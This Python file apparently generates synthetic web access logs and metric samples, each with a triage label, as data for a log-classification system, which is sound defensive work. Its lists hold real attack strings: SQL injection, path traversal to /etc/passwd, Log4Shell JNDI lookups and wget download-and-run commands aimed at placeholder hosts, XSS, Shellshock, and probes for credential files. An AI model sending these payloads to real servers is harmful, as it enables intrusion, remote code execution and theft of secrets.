"""Web access lines and metric samples. Each function returns the event and the arguments of triage.label()."""

import urllib.parse

from phrases import part

ATTACKS = """/index.php?id=1%20union%20select%201,2,3--|/item?id=1' or 1=1--|/product?id=5+UNION+SELECT+user,password+FROM+users|
/news.php?id=1%27%20OR%20%271%27=%271|/page?id=1;waitfor delay '0:0:5'--|/search?q=1' and sleep(5)--|/api?sort=(select*from(select(sleep(20)))a)|
/../../../../etc/passwd|/download?file=../../../../etc/passwd|/static/..%2f..%2f..%2fetc%2fpasswd|/cgi-bin/.%2e/.%2e/.%2e/bin/sh|
/%2e%2e/%2e%2e/%2e%2e/etc/shadow|/image?name=....//....//etc/passwd|/view?page=/etc/passwd%00|/?x=${jndi:ldap://{ip4}:1389/a}|/?q=%24%7Bjndi%3Aldap%3A%2F%2F{ip4}%2F{word}%7D|
/login?u=${jndi:dns://{domain}/x}|/search?q=<script>alert(1)</script>|/?s=%3Cscript%3Ealert(document.cookie)%3C/script%3E|/comment?text=<script src=http://{domain}/x.js>|
/shell.php?cmd=id|/up.php?cmd=cat+/etc/passwd|/{word}.php?cmd=wget+http://{ip4}/x|/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{ip4}/m|
/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget http://{ip4}/t)|/ping?host=127.0.0.1;wget http://{ip4}/a.sh|/tools?ip=8.8.8.8;wget+http://{ip4}/bin.sh|
/index.php?page=php://filter/convert.base64-encode/resource=config|/?file=php://input|/index.php?x=base64_decode('cGhwaW5mbygp')|/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php|
/phpunit/src/Util/PHP/eval-stdin.php|/index.php?s=/Index/think/app/invokefunction&function=call_user_func_array&cmd=id|/?id=-1+union+select+null,version()|
/profile?name=%27%20union%20select%20password%20from%20admin|/wp-content/plugins/{word}/download.php?f=../../../wp-config.php|/api/exec?cmd=whoami|/?a=%2e%2e%2f%2e%2e%2fetc%2fpasswd|
/users?id=1 union all select 1,2,table_name from information_schema.tables|/get?path=..%2f..%2f..%2f..%2fwindows%2fwin.ini|/q?x=1' AND SLEEP(10) AND '1'='1|/x?y=() { :; }; /bin/bash -c id"""
# Payloads for any parameter of any page, beside the whole requests above.
PAYLOADS = """1 union select null,null--|' or '1'='1|1' or 1=1#|" or ""="|admin'--|1; drop table users|1 and 1=2 union select 1,2,3|' union select username,password from users--|
1 order by 10--|1' and sleep(5)--|1;select pg_sleep(5)|1 or sleep(3)|') or ('1'='1|1 and benchmark(5000000,md5(1))|-1' union all select null,@@version--|1 union select 1,concat(user,0x3a,pass),3 from admin|
../../../etc/passwd|../../../../../../etc/shadow|..%2f..%2f..%2fetc%2fpasswd|%2e%2e%2f%2e%2e%2fetc/hosts|....//....//....//etc/passwd|/etc/passwd|file:///etc/passwd|..\\..\\windows\\win.ini|%2e%2e/%2e%2e/boot.ini|../../../../proc/self/environ|
<script>alert(1)</script>|<script>document.location='http://{domain}'</script>|"><script>alert('xss')</script>|%3Cscript%3Ealert(1)%3C%2Fscript%3E|<ScRiPt>prompt(1)</sCrIpT>|
;wget http://{ip4}/x.sh|;wget+http://{ip4}/bot;sh+bot|$(wget http://{ip4}/a)|`wget http://{ip4}/a`;wget http://{ip4}|php://input|php://filter/read=convert.base64-encode/resource=index.php|base64_decode('ZWNobw==')|eval(base64_decode('c3lzdGVt'))|
${jndi:ldap://{ip4}/a}|${jndi:ldap://{domain}:1389/{word}}|${jndi:rmi://{ip4}:1099/obj}|%24%7Bjndi:dns://{domain}/a%7D|${jndi:${lower:l}dap://{ip4}/x}"""
PAYLOADS = PAYLOADS.replace("\n", "").split("|")
PARAMETERS = "id q page file path name user search cat item lang redirect url view doc template action sort filter key ref token username pid mode include data x".split()
AGENT_ATTACKS = ["${jndi:ldap://{ip4}:1389/Basic}", "() { :; }; /bin/bash -c 'wget http://{ip4}/x'", "() { ignored; }; echo; /bin/cat /etc/passwd", "${jndi:rmi://{ip4}/a}", "' or 1=1--", "<script>alert(1)</script>", "${${lower:j}ndi:${lower:l}dap://{ip4}/o}"]
SECRETS = """/.env|/.git/config|/.git/HEAD|/backup.sql|/dump.sql|/db.sql|/{word}.sql|/index.php.bak|/config.bak|/site.bak|/wp-config.php|/wp-config.php.bak|/.htpasswd|
/id_rsa|/.ssh/id_rsa|/.aws/credentials|/api/.env|/.env.production|/admin/.env|/backup/{word}.sql|/.git/logs/HEAD|/app/.git/config|/home/{word}/id_rsa|/old/.htpasswd|/laravel/.env"""
PROBES = """/wp-login.php|/xmlrpc.php|/phpmyadmin/|/phpMyAdmin/index.php|/pma/|/admin.php|/administrator/index.php|/cgi-bin/test.cgi|/cgi-bin/luci|/boaform/admin/formLogin|
/manager/html|/solr/admin/info/system|/actuator/health|/actuator/env|/actuator/gateway/routes|/HNAP1/|/HNAP1|/vendor/phpunit/phpunit/LICENSE|/blog/wp-login.php|/wordpress/wp-login.php|
/cgi-bin/authLogin.cgi|/boaform/formPing|/solr/|/phpmyadmin/scripts/setup.php|/xmlrpc.php?rsd|/host-manager/html|/wp-admin/setup-config.php"""
ATTACKS, SECRETS, PROBES = ([x.strip() for x in t.replace("\n", "").split("|")] for t in (ATTACKS, SECRETS, PROBES))
OK = [200, 200, 200, 200, 201, 204, 206, 301, 302, 304, 304, 404, 499, 101, 307]


def verdict(severity, category, reason, has_address=False, stopped=False):
    return dict(severity=severity, category=category, reason=reason, has_address=has_address, stopped=stopped)


def request(v, which):
    """One HTTP request with its verdict: method, url, status, agent, referer, bytes."""
    kind = v.rng.choices(["plain", "client", "limit", "server", "attack", "agent", "referer", "secret", "scanner", "probe"], (5, 2.2, 1, 2, 3.5, 0.8, 0.5, 2.5, 2, 2.2))[0]
    method = v.pick(["GET", "GET", "GET", "POST", "HEAD", "PUT"])
    url, agent, referer = v.urlpath(), v.agent(), v.pick(["-", "-", f"https://{v.domain()}/"])
    status = v.pick(OK)
    result = verdict("info", "web", v.pick(["An ordinary request.", "Routine web traffic."]))
    if kind == "plain" and v.chance(0.08):
        # The same page as a probe asks for, but it is here and answers.
        url, status = v.pick(["/wp-login.php", "/xmlrpc.php", "/phpmyadmin/", "/admin.php", "/actuator/health", "/manager/html", "/administrator/index.php"]), v.pick([200, 200, 302, 304])
    elif kind == "client":
        status = v.pick([400, 401, 401, 403, 403, 405, 406, 408, 409, 410, 411, 413, 414, 415, 416, 422, 431, 451])
        result = verdict("low", "web", v.pick(["The server refused a request.", "A request was not accepted."]), True)
    elif kind == "limit":
        status = 429
        result = verdict("low", "dos", "A client hit the rate limit.", True)
    elif kind == "server":
        status = v.pick([500, 500, 502, 502, 503, 503, 504, 501, 505, 507, 508, 520])
        result = verdict("medium", "web", v.pick(["The server failed to answer.", "A server error."]), True)
    elif kind in ("attack", "agent", "referer"):
        status = v.pick([200, 200, 201, 404, 404, 403, 400, 500, 302, 301, 405, 401])
        payload = v.fill(v.pick(AGENT_ATTACKS))
        if kind == "attack":
            url = v.fill(v.pick(part(ATTACKS, which))) if v.chance(0.5) else injected(v, which)
            if v.chance(0.25):
                url = urllib.parse.quote(url, safe="/?=&%")
            elif v.chance(0.4):
                url = url.replace(" ", v.pick(["%20", "+"]))
        elif kind == "agent":
            agent = payload
        else:
            referer = payload
        if v.chance(0.25):
            agent = v.scanner() if kind != "agent" else agent
        succeeded = 200 <= status < 300
        result = verdict("high" if succeeded else "medium", "exploit", "An attack that the server answered with success." if succeeded else "An attack on the web server.", True)
    elif kind == "secret":
        url = v.fill(v.pick(part(SECRETS, which)))
        status = v.pick([200, 200, 404, 403, 301, 404, 401])
        result = verdict("high", "exfiltration", "A secret file was served.", True) if status == 200 else verdict("low", "recon", "Somebody looks for secret files.", True)
    elif kind == "scanner":
        agent = v.scanner()
        status = v.pick([200, 404, 404, 403, 301, 400])
        if v.chance(0.35):
            url = v.pick(part(PROBES, which))
        result = verdict("medium", "recon", "A vulnerability scanner at work.", True)
    elif kind == "probe":
        url = v.pick(part(PROBES, which))
        status = v.pick([404, 404, 403])
        result = verdict("low", "recon", "A probe for weak pages.", True)
    return dict(method=method, url=url, status=status, agent=agent, referer=referer, bytes=v.rng.choice((0, v.num(), v.num(), 162, 548)), verdict=result, plain=kind == "plain")


def injected(v, which):
    page = f"/{v.word()}{v.pick(['', '.php', '.asp', '.jsp', '/' + v.word(), '.cgi', '/'])}"
    if v.chance(0.06):
        return f"{page}?cmd={v.pick(['id', 'whoami', 'ls', 'cat+/etc/passwd', 'uname+-a'])}"
    return f"{page}?{v.pick(PARAMETERS)}={v.fill(v.pick(part(PAYLOADS, which)))}"


def access(v, which):
    r = request(v, which)
    ip = v.ip()
    if v.chance(0.03):
        # Bytes of a TLS handshake sent to a plain HTTP port.
        line = v.pick(["\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03", "\\x16\\x03\\x01\\x00\\xEE\\x01", "\\x03\\x00\\x00/*\\xE0", "\\x16\\x03\\x01"])
        return f'{ip} - - [{v.clf_time()}] "{line}" 400 {v.num()} "-" "-"', verdict("low", "recon", "Bytes that are no HTTP.", True)
    if v.chance(0.25):
        return access_json(v, ip, r), r["verdict"]
    user = v.user() if v.chance(0.08) else "-"
    line = f'{ip} - {user} [{v.clf_time()}] "{r["method"]} {r["url"]} HTTP/{v.pick(["1.1", "1.1", "2.0", "1.0"])}" {r["status"]} {r["bytes"]}'
    if about_url(r) and v.chance(0.2):
        return prefix(v, line), r["verdict"]
    line += f' "{r["referer"]}" "{r["agent"]}"'
    if v.chance(0.15):
        line += v.pick([' "-"', f" {v.one()}.{v.digits(3)}", f' rt=0.{v.digits(3)} uct="0.00{v.one()}"'])
    return prefix(v, line), r["verdict"]


def about_url(r):
    """Whether the common format, which has no referer and agent, shows enough."""
    reason = r["verdict"]["reason"]
    return "scanner" not in reason and "attack" not in reason.lower()


def prefix(v, line):
    return f"{v.domain()}:{v.pick([80, 443])} {line}" if v.chance(0.08) else f"{v.sys_time()} {v.host()} nginx: {line}" if v.chance(0.05) else line


def access_json(v, ip, r):
    names = v.pick([
        ("remote_addr", "request", "status", "body_bytes_sent", "http_user_agent", "http_referer", "time_iso8601"),
        ("client_ip", "path", "status_code", "bytes", "user_agent", "referer", "timestamp"),
        ("ip", "uri", "code", "size", "ua", "ref", "ts"),
        ("remote_host", "url", "response", "length", "agent", "referrer", "@timestamp"),
    ])
    target = f'{r["method"]} {r["url"]} HTTP/1.1' if names[1] == "request" else r["url"]
    event = dict(zip(names, (ip, target, r["status"], r["bytes"], r["agent"], r["referer"], v.iso())))
    if names[1] != "request" and v.chance(0.8):
        event["method"] = r["method"]
    if v.chance(0.3):
        event["request_time"] = float(f"0.{v.digits(3)}")
    if v.chance(0.3):
        event[v.pick(["host", "vhost", "server_name"])] = v.domain()
    if r["referer"] == "-" and v.chance(0.5):
        del event[names[5]]
    if v.chance(0.3):
        del event[names[6]]
    return event


LEVELS = ["info", "low", "medium", "high", "critical"]
NAMES = {
    "cpu": ["cpu", "cpu_percent", "cpu.usage", "cpu_usage", "cpu_used_pct", "cpu_total", "cpu%", "cpuUsage", "system.cpu.pct", "usage_cpu", "cpu_load_percent", "cpu_util"],
    "memory": ["mem", "mem_used_pct", "memory", "memory_percent", "mem_percent", "ram", "ram_used", "memory.used.percent", "mem_usage", "memUsedPct", "ram_pct", "mem%"],
    "swap": ["swap", "swap_used_pct", "swap_percent", "swap.used", "swap_usage", "swapUsedPct", "swap%"],
    "disk": ["disk", "disk_used_pct", "disk_percent", "use%", "disk_usage", "fs_used", "used_percent", "disk.used.percent", "fsUsedPct", "root_used_pct", "filesystem_used"],
    "inodes": ["inodes", "inodes_pct", "inode_used", "iuse%", "inodes_used_percent", "inode_usage"],
    "temperature": ["temp_c", "temperature", "cpu_temp", "temp", "sensor_temp_c", "temperature_celsius", "core_temp"],
}
FREE_NAMES = {
    "memory": ["mem_free_pct", "mem_available_pct", "memory_available_percent", "free_mem_percent", "mem_avail%", "memory.free.percent"],
    "disk": ["disk_free_pct", "free_percent", "disk_available_percent", "fs_free_pct", "avail%", "disk.free.percent"],
    "cpu": ["cpu_idle", "cpu_idle_pct", "idle_percent"],
    "inodes": ["inodes_free_pct", "inode_free_percent"],
    "swap": ["swap_free_pct", "swap_available_percent"],
}
REASONS = {
    "cpu": ("CPU use is normal.", "CPU use is a little high.", "CPU use is high.", "The CPU is nearly saturated."),
    "memory": ("Memory use is normal.", "Memory use is a little high.", "Memory use is high.", "Memory is nearly used up.", "Memory is used up."),
    "swap": ("Swap use is normal.", "Swap use is a little high.", "Swap use is high.", "Swap is nearly used up."),
    "disk": ("Disk use is normal.", "Disk use is a little high.", "The disk is getting full.", "The disk is nearly full.", "The disk is full."),
    "inodes": ("Inode use is normal.", "Inode use is a little high.", "Inodes are getting scarce.", "Inodes are nearly used up.", "Inodes are used up."),
    "load": ("The load is normal.", "The load is near the number of cores.", "The load is above the number of cores.", "The load is far above the number of cores."),
    "temperature": ("The temperature is normal.", "It is a little warm.", "It is hot.", "It is very hot.", "It is dangerously hot."),
}


def metric(v):
    kind = v.rng.choices(["cpu", "memory", "swap", "disk", "inodes", "load", "temperature", "several"], (3, 3, 1.3, 4, 1.3, 3, 1.5, 3))[0]
    if kind == "load":
        sample, level = load_sample(v)
    elif kind == "several":
        sample, level, kind = several(v)
    else:
        sample, level = gauge(v, kind)
    category = "hardware" if kind == "temperature" else "resource"
    return write(v, sample), verdict(LEVELS[level], category, REASONS[kind][min(level, len(REASONS[kind]) - 1)])


def band(v, bounds):
    """A value in a random band between bounds, and the number of the band."""
    if v.chance(0.35):
        # Close to a bound, on either side of it: that is where the digits matter.
        bound = v.pick(bounds[1:-1])
        near = (bounds[2] - bounds[1]) * 0.15
        value = min(bound + v.rng.uniform(-near, near), bounds[-1] - 0.1)
        return value, sum(value >= b for b in bounds[1:-1])
    level = v.rng.randrange(len(bounds) - 1)
    low, high = bounds[level], bounds[level + 1]
    # Values at the lower bound come up often, because the bound belongs to the band.
    value = low if v.chance(0.1) and level else v.rng.uniform(low, high)
    return min(value, high - 0.1), level


def gauge(v, kind):
    if kind == "temperature":
        value, level = band(v, (20, 70, 80, 90, 100, 120))
        return {v.pick(NAMES[kind]): rounded(v, value)}, level
    value, level = band(v, (0, 70, 80, 90, 95, 100.1))
    value, level = settle(v, value, level)
    cap = 3 if kind in ("cpu", "swap") else 4
    if kind in FREE_NAMES and v.chance(0.15):
        return {v.pick(FREE_NAMES[kind]): round(100 - value, 1)}, min(level, cap)
    value = int(value) if v.chance(0.4) else value
    name = v.pick(NAMES[kind])
    if v.chance(0.15):
        return {"metric": name, "value": value}, min(level, cap)
    if v.chance(0.1):
        return {v.pick(["type", "kind", "check"]): kind, v.pick(["used_percent", "percent", "used_pct", "usage"]): value}, min(level, cap)
    if v.chance(0.08):
        return {kind: {v.pick(["used_percent", "pct", "used"]): value}}, min(level, cap)
    return {name: value}, min(level, cap)


def settle(v, value, level):
    """Round first and judge then, so that 94.96 shown as 95.0 counts as 95."""
    value = round(value, v.pick([0, 1, 1, 2]))
    value = min(value, 100.0)
    return value, sum(value >= b for b in (70, 80, 90, 95))


def rounded(v, value):
    return int(value) if v.chance(0.5) else int(value) + v.rng.randint(0, 9) / 10 if v.chance(0.3) else int(value * 10) / 10


def load_sample(v):
    cores = v.pick([1, 2, 2, 4, 4, 8, 8, 12, 16, 24, 32, 64, 6])
    ratio, level = band(v, (0.02, 0.7, 1, 2, 5))
    load = round(ratio * cores, 2)
    level = sum(load / cores >= b for b in (0.7, 1, 2))
    sample = {v.pick(["load1", "load_1m", "load", "loadavg1", "load.1", "load_1"]): load, v.pick(["cores", "ncpu", "cpus", "cpu_count", "n_cpus", "cpu_cores"]): cores}
    if v.chance(0.4):
        tail = v.pick([("load5", "load15"), ("load_5m", "load_15m")])
        sample |= {tail[0]: round(load * v.rng.uniform(0.5, 1.1), 2), tail[1]: round(load * v.rng.uniform(0.4, 1.1), 2)}
    return sample, level


def several(v):
    kinds = v.rng.sample(["cpu", "memory", "disk", "swap"], v.rng.randint(2, 4))
    sample, worst, which = {}, -1, None
    for kind in kinds:
        value, level = band(v, (0, 70, 80, 90, 95, 100.1))
        if v.chance(0.5):
            value, level = v.rng.uniform(1, 69), 0
        value, level = settle(v, value, level)
        level = min(level, 3 if kind in ("cpu", "swap") else 4)
        sample[v.pick(NAMES[kind][:8])] = value
        if level > worst:
            worst, which = level, kind
    return sample, worst, which


def write(v, sample):
    """JSON object or key=value line, with fields that are not judged around the sample."""
    extra = {
        v.pick(["host", "hostname", "node", "instance"]): v.host(),
        v.pick(["ts", "timestamp", "time", "@timestamp"]): v.iso() if v.chance(0.6) else v.rng.randint(1600000000, 1800000000),
        v.pick(["mount", "fs", "device", "path"]): v.dir(),
        v.pick(["uptime", "uptime_s"]): v.num(),
        v.pick(["procs", "processes"]): v.rng.randint(80, 900),
        v.pick(["rx_bytes", "net_in"]): v.num(),
        v.pick(["total_mb", "mem_total", "size_gb"]): v.num(),
        "interval": v.pick([10, 15, 30, 60]),
        v.pick(["source", "agent", "collector"]): v.pick(["node_exporter", "telegraf", "fazai", "collectd", "sar"]),
    }
    if len(sample) == 1 and v.chance(0.12):
        return sentence(v, *next(iter(sample.items())))
    event = dict(sample)
    for key in v.rng.sample(list(extra), v.rng.randint(0, 4)):
        event[key] = extra[key]
    if v.chance(0.55) or any(isinstance(x, dict) for x in event.values()):
        if v.chance(0.12):
            event |= {k: f"{x}%" for k, x in sample.items() if is_percent(k) and isinstance(x, (int, float))}
        return event
    items = list(event.items())
    if v.chance(0.6):
        v.rng.shuffle(items)
    percent = "%" if v.chance(0.3) else ""
    head = v.pick(["", "", "", "metric ", "sample: ", f"{v.iso()} ", f"{v.host()} "])
    pairs = [f"{k}={x}{percent if k in sample and is_percent(k) and isinstance(x, (int, float)) else ''}" for k, x in items]
    return head + v.pick([" ", " ", ", "]).join(pairs)


def is_percent(name):
    return not name.startswith(("load", "cores", "ncpu", "cpus", "cpu_count", "n_cpus", "cpu_cores", "temp", "metric", "type", "kind", "check", "sensor", "core_temp", "cpu_temp"))


def sentence(v, name, value):
    """The same as a line of text, or as an exporter writes it."""
    if not isinstance(value, (int, float)):
        return {name: value}
    percent = "%" if is_percent(name) and v.chance(0.7) else ""
    label = f'{{{v.pick(["instance", "host", "mountpoint", "device"])}="{v.host()}"}}'
    words = name.replace("_", " ").replace(".", " ")
    return v.pick([f"{name}{label} {value}", f"{words}: {value}{percent}", f"{words} is {value}{percent} on {v.host()}", f"{v.host()}: {words} {value}{percent}", f"{words} at {value}{percent}", f"{v.iso()} {v.host()} {name} {value}"])
